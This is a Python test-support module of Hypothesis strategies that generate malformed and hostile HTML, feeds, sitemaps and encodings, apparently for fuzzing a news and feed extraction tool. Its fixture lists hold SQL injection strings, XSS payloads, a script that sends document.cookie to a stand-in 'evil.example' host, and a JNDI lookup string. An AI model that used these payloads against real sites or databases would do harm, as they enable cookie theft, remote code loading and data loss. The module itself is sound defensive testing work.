"""Hypothesis strategies for hostile pages, article texts, feeds and URL lists.

Everything here builds bytes or text the way a careless or hostile publisher would: tag soup with
unclosed and misnested elements, entities that resolve to nothing, JSON-LD that is not JSON, text
in one encoding declared as another, SQL and HTML metacharacters where a title belongs.
"""

from __future__ import annotations

import json
from html import escape

from hypothesis import strategies as st

# -- text ---------------------------------------------------------------------------------------------

HOSTILE_TITLES = [
    "'); DROP TABLE articles;--",
    '<script>alert(1)</script> & "quotes"',
    "Robert'); DELETE FROM items WHERE '1'='1",
    '"><img src=x onerror=alert(document.cookie)>',
    "</title><script>fetch('//evil.example/'+document.cookie)</script>",
    "1; UPDATE sources SET url='javascript:alert(1)' --",
    "&amp;lt;script&amp;gt; double-escaped &lt;b&gt;",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%s%n",
    "\u202eevil\u202c \u200b zero-width \ufeff BOM",
]

TRADE_WORDS = [
    "tariff", "tariffs", "China", "United States", "Washington", "Beijing", "Geneva", "WTO", "EU", "Brussels",
    "steel", "aluminium", "soybeans", "said", "agreed", "threatened", "sanctions", "export", "controls", "talks",
    "minister", "President", "Xi Jinping", "Donald Trump", "Ursula von der Leyen", "Reuters", "Monday", "March 1",
    "2025-11-01", "25%", "$3.5 billion", "€200m", "¥1.2tn", "10 per cent", "on Tuesday", "deal", "quota",
    "Japan", "Mexico", "Canada", "Germany", "India", "Vietnam", "Rotterdam", "Shanghai", "dispute", "summit",
    "anti-dumping", "duties", "imports", "exports", "semiconductors", "rare earths", "Ministry of Commerce",
    "“", "”", '"', "'", "«", "»", "—", "–", "(", ")", ".", ",", ";", ":", "?", "!", "\n", "\n\n", "Mr.", "Dr.",
    "U.S.", "a.m.", "No.", "Inc.", "per cent", "%", "-", "/", "&", "<", ">",
]  # fmt: skip

# metacharacters of SQL, HTML, JSON, regex and format strings, and the characters that break naive splitting
META_CHARS = list("'\";--/*<>&%_\\{}[]()|^$.?*+#\x00\t\r\n\u00a0\u2028\u2029\u200b\ufeff\U0001f600")

unicode_text = st.text(st.characters(codec="utf-8"), max_size=300)  # all but the surrogates UTF-8 cannot carry

word_soup = st.lists(st.sampled_from(TRADE_WORDS + META_CHARS), max_size=120).map(" ".join)

title_text = st.one_of(
    st.sampled_from(HOSTILE_TITLES),
    unicode_text.map(lambda s: s[:120]),
    st.lists(st.sampled_from(TRADE_WORDS + META_CHARS + HOSTILE_TITLES), max_size=15).map(" ".join),
)

# -- HTML ---------------------------------------------------------------------------------------------

TAGS = [
    "html", "head", "body", "title", "meta", "link", "div", "p", "span", "article", "main", "section", "header",
    "footer", "nav", "aside", "h1", "h2", "h3", "a", "b", "i", "em", "strong", "br", "hr", "img", "figure",
    "figcaption", "table", "tr", "td", "th", "ul", "ol", "li", "time", "script", "style", "noscript", "iframe",
    "svg", "math", "template", "textarea", "select", "option", "form", "input", "pre", "code", "blockquote",
    "button", "object", "embed", "video", "source", "frameset", "frame", "plaintext", "xmp", "marquee", "x-custom",
]  # fmt: skip
ATTRS = [
    "class", "id", "property", "name", "content", "charset", "type", "href", "src", "itemprop", "itemscope",
    "datetime", "lang", "rel", "http-equiv", "style", "onload", "xmlns", "dir", "pubdate", "data-x",
]  # fmt: skip
ATTR_VALUES = [
    "article", "og:title", "og:type", "og:site_name", "article:published_time", "author", "datePublished",
    "canonical", "application/ld+json", "utf-8", "shift_jis", "windows-1252", "utf-16", "x-bogus", "en", "de-DE",
    "2025-11-06T09:15:00+01:00", "99999-99-99", "-1", "https://news.example/a?b=1&c=2", "javascript:alert(1)",
    "//evil.example", "headline", "NewsArticle", "website", "video.other", "rtl", "",
]  # fmt: skip
ENTITIES = ["&amp;", "&lt;", "&gt;", "&quot;", "&#39;", "&nbsp;", "&#x0;", "&#xD800;", "&#1114112;", "&#99999999;",
            "&bogus;", "&", "&#", "&#x;", "&ZeroWidthSpace;", "&rlm;", "&shy;"]  # fmt: skip

text_node = st.one_of(
    word_soup, unicode_text, st.sampled_from(ENTITIES), st.sampled_from(HOSTILE_TITLES).map(lambda t: escape(t))
)


@st.composite
def _attributes(draw: st.DrawFn) -> str:
    pairs = draw(st.lists(st.tuples(st.sampled_from(ATTRS), st.sampled_from(ATTR_VALUES) | unicode_text), max_size=4))
    quote = draw(st.sampled_from(['"', "'", ""]))
    return "".join(f" {name}={quote}{value}{quote}" for name, value in pairs)


def _element(children: st.SearchStrategy[list[str]]) -> st.SearchStrategy[str]:
    @st.composite
    def build(draw: st.DrawFn) -> str:
        tag = draw(st.sampled_from(TAGS))
        inner = "".join(draw(children))
        close = draw(st.sampled_from([f"</{tag}>", f"</{tag}>", "", "</div>", f"</{tag.upper()}  >"]))
        return f"<{tag}{draw(_attributes())}>{inner}{close}"

    return build()


JSON_SCALARS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | unicode_text
JSON_LD_KEYS = ["@type", "@graph", "headline", "datePublished", "author", "name", "keywords", "publisher",
                "inLanguage", "articleSection"]  # fmt: skip
json_keys = st.sampled_from(JSON_LD_KEYS) | unicode_text
json_values = st.recursive(
    JSON_SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(json_keys, inner, max_size=4),
    max_leaves=12,
)

json_ld = st.one_of(
    json_values.map(lambda v: json.dumps(v, ensure_ascii=False)),
    json_values.map(lambda v: json.dumps(v)[: len(json.dumps(v)) // 2]),  # cut short: not JSON any more
    st.integers(1, 5000).map(lambda n: "[" * n),  # deeper than the JSON decoder's recursion limit at the top end
).map(lambda body: f'<script type="application/ld+json">{body}</script>')

specials = st.sampled_from(
    [
        "<!-- a comment -->", "<!-- unclosed comment", "<![CDATA[ cdata ]]>", "<?php echo 1; ?>", "<!DOCTYPE html>",
        "<?xml version='1.0' encoding='utf-16'?>", "</p></p></div>", "<p", "<", ">", "<<>>", "</>", "<br/>",
        "<meta charset='shift_jis'>", "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    ]
)  # fmt: skip

html_fragments = st.recursive(
    st.one_of(text_node, specials, json_ld),
    lambda children: _element(st.lists(children, max_size=5)),
    max_leaves=40,
)

html_documents = st.lists(html_fragments, min_size=1, max_size=8).map("".join)
"""Tag soup: arbitrary nesting of real and invented tags, text, entities, JSON-LD and stray markup."""


@st.composite
def article_pages(draw: st.DrawFn) -> str:
    """A page shaped like an article (so extraction really runs) with hostile parts in every slot."""
    title = draw(title_text)
    paragraphs = draw(st.lists(word_soup, min_size=1, max_size=12))
    body = "".join(f"<p>{escape(p)}</p>" for p in paragraphs)
    noise = draw(st.lists(html_fragments, max_size=3))
    og_type = draw(st.sampled_from(["article", "website", "video.other", ""]))
    return (
        f"<html lang='{draw(st.sampled_from(ATTR_VALUES))}'><head><title>{escape(title)}</title>"
        f"<meta property='og:type' content='{og_type}'><meta name='author' content='{escape(draw(title_text))}'>"
        f"{draw(json_ld)}</head><body><article><h1>{escape(title)}</h1>{''.join(noise)}{body}"
        "</article></body></html>"
    )


ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252", "latin-1", "shift_jis", "euc-jp", "gb18030",
             "koi8-r", "cp437", "utf-32"]  # fmt: skip
CONTENT_TYPES = [None, "text/html", "text/html; charset=utf-8", "text/html; charset=ISO-8859-1",
                 "text/html; charset=shift_jis", "text/html; charset=utf-16", "text/html; charset=x-unknown",
                 "text/html; charset=", "text/plain", "application/octet-stream",
                 'text/html;charset="utf-8"']  # fmt: skip


@st.composite
def encoded_pages(draw: st.DrawFn) -> tuple[bytes, str | None]:
    """An HTML page in one encoding, maybe declared as another, maybe with a BOM, maybe with foreign fragments."""
    text = draw(st.one_of(html_documents, article_pages()))
    encoding = draw(st.sampled_from(ENCODINGS))
    data = text.encode(encoding, errors="replace")
    for _ in range(draw(st.integers(0, 3))):  # splice a fragment in another encoding at a random point
        fragment = draw(unicode_text).encode(draw(st.sampled_from(ENCODINGS)), errors="replace")
        at = draw(st.integers(0, len(data)))
        data = data[:at] + fragment + data[at:]
    bom = draw(st.sampled_from([b"", b"", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\x00\x00\xfe\xff"]))
    return bom + data, draw(st.sampled_from(CONTENT_TYPES))


# -- feeds, sitemaps, URL lists ------------------------------------------------------------------------

ODD_URLS = ["https://news.example/a.html", "http://x.example/?q=1&amp;r=2", "javascript:alert(1)",
            "https://münchen.example/straße", "//relative", "/path", "", " ", "https://e.example/\x00"]  # fmt: skip
url_text = st.sampled_from(ODD_URLS) | unicode_text
feed_text = st.one_of(unicode_text.map(escape), st.sampled_from(ENTITIES + HOSTILE_TITLES + ["<![CDATA[x]]>"]))
xml_text = st.one_of(  # text a well-formed document may hold: no control characters, markup escaped
    st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff")),
    st.sampled_from(HOSTILE_TITLES),
).map(escape)


def _xml(tag: str, children: str, attrs: str = "") -> str:
    return f"<{tag}{attrs}>{children}</{tag}>"


@st.composite
def sitemaps(draw: st.DrawFn) -> tuple[bytes, int]:
    """A well-formed urlset or sitemap index with N located entries: parse_feed must return exactly N."""
    index = draw(st.booleans())
    entry_tag = "sitemap" if index else "url"
    locs = draw(st.lists(st.from_regex(r"https://[a-z]{1,12}\.example/[a-z0-9/_-]{0,30}", fullmatch=True),
                         max_size=20))  # fmt: skip
    extra = draw(
        st.lists(st.sampled_from(["lastmod", "changefreq", "priority", "news:news", "image:image"]), max_size=3)
    )
    entries = "".join(
        _xml(entry_tag, _xml("loc", loc) + "".join(_xml(e, draw(xml_text)) for e in extra)) for loc in locs
    )
    ns = (' xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:news="http://www.google.com/schemas/'
          'sitemap-news/0.9" xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"')  # fmt: skip
    root = "sitemapindex" if index else "urlset"
    doc = f'<?xml version="1.0" encoding="UTF-8"?>{_xml(root, entries, ns)}'
    return doc.encode(), len(locs)


@st.composite
def feed_documents(draw: st.DrawFn) -> bytes:
    """RSS, Atom, RDF, sitemap or JSON Feed shaped documents with random children, text and damage."""
    kind = draw(st.sampled_from(["rss", "atom", "rdf", "urlset", "sitemapindex", "json", "other"]))
    n = draw(st.integers(0, 6))
    if kind == "json":
        items = draw(st.lists(json_values | st.fixed_dictionaries({"url": url_text, "title": json_values}), max_size=n))
        version = draw(st.sampled_from(["https://jsonfeed.org/version/1.1", "1", ""]))
        return json.dumps({"version": version, "items": items}, ensure_ascii=draw(st.booleans())).encode()
    child_tags = ["title", "link", "guid", "pubDate", "dc:date", "published", "updated", "loc", "lastmod",
                  "description", "content:encoded", "item", "entry"]  # fmt: skip
    entry_tag = {"rss": "item", "rdf": "item", "atom": "entry", "urlset": "url", "sitemapindex": "sitemap"}.get(
        kind, draw(st.sampled_from(["item", "entry", "x"]))
    )
    entries = []
    for _ in range(n):
        children = draw(st.lists(st.tuples(st.sampled_from(child_tags), feed_text | url_text.map(escape)), max_size=5))
        link = f'<link href="{escape(draw(url_text))}" rel="{draw(st.sampled_from(["alternate", "self", ""]))}"/>'
        entries.append(_xml(entry_tag, link + "".join(_xml(t, v) for t, v in children)))
    root = {"rss": "rss", "rdf": "rdf:RDF", "atom": "feed", "other": draw(st.sampled_from(["html", "opml", "x:y"]))}
    tag = root.get(kind, kind)
    doc = _xml(tag, _xml("channel", "".join(entries)) if kind == "rss" else "".join(entries))
    prolog = draw(st.sampled_from(["", '<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0" '
                                   'encoding="ISO-8859-1"?>', '<!DOCTYPE x [<!ENTITY e "boom">]>']))  # fmt: skip
    data = (prolog + doc).encode(draw(st.sampled_from(["utf-8", "utf-16", "cp1252"])), errors="replace")
    cut = draw(st.integers(0, len(data)))
    return data[:cut] if draw(st.integers(0, 4)) == 0 else data  # one in five cut short
